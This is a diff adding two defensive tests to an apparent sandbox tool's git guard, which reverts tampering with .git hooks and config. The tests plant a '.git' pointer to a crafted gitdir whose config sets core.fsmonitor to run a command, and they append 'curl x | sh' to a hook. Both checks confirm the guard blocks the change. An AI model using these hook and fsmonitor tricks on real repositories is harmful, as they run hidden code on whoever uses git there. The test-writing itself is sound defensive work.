@@ -238,6 +238,54 @@ def test_a_hooks_folder_swapped_for_a_link_is_made_again_with_the_hooks_it_held(
 
 
 @needs_landlock
+def test_a_git_file_may_lead_only_to_a_git_dir_the_guard_looks_at(repo) -> None:
+    work, box = repo
+    # A worktree's pointer into .git/worktrees, which the guard looks at, stands.
+    assert sh("git worktree add -q wt", work, box).git_put_back == ()
+    assert (work / "wt" / ".git").is_file()
+    # One into another folder of .git, whose config no guard reads, does not.
+    ran = work.parent / "ran"
+    made = sh(
+        "mkdir -p .git/logs/x sub && cp -r .git/HEAD .git/objects .git/refs .git/logs/x/ && "
+        f"printf '[core]\\n\\tfsmonitor = touch {ran}\\n' > .git/logs/x/config && "
+        "echo 'gitdir: ../.git/logs/x' > sub/.git",
+        work,
+        box,
+    )
+    assert made.git_put_back == (
+        "sub/.git: a .git that leads git elsewhere for its config and hooks "
+        "(what the command wrote is kept as sub/.git.mm-refused)",
+    )
+    subprocess.run(["git", "status"], cwd=work / "sub", check=False, capture_output=True)
+    assert not ran.exists()
+
+
+@needs_landlock
+def test_a_folder_too_crowded_to_look_through_or_a_file_too_large_to_keep_is_still_caught(
+    repo, monkeypatch
+) -> None:
+    work, box = repo
+    monkeypatch.setattr(gitguard, "MAX_NAMES", 40)
+    monkeypatch.setattr(gitguard, "MAX_FILE", 64)
+    (work / ".git" / "hooks" / "commit-msg").write_text("#!/bin/sh\n")
+    big = work / ".git" / "hooks" / "pre-push"
+    big.write_text("#!/bin/sh\n" + "# the person's own, larger than the guard keeps\n" * 4)
+    # Past the names read, a hook hidden among many others is not missed: the folder goes aside whole.
+    result = sh(
+        "for i in $(seq 100); do touch .git/hooks/a$i; done; echo x > .git/hooks/pre-commit", work, box
+    )
+    assert result.git_put_back[0].startswith(".git/hooks: a folder of more than 40 names")
+    assert hooks(work) == {"commit-msg", "pre-push"}
+    # A file past the bytes kept is known by its inode, size and change time: changed, it is set aside.
+    result = sh("echo 'curl x | sh' >> .git/hooks/pre-push", work, box)
+    assert result.git_put_back == (
+        ".git/hooks/pre-push: a hook changed (what the command wrote is kept as .git/hooks/pre-push.mm-refused);"
+        " the old one, larger than mm keeps, could not be written back",
+    )
+    assert not big.exists()
+
+
+@needs_landlock
 def test_what_the_person_changes_between_calls_is_theirs(repo) -> None:
     work, box = repo
     assert sh("true", work, box).git_put_back == ()
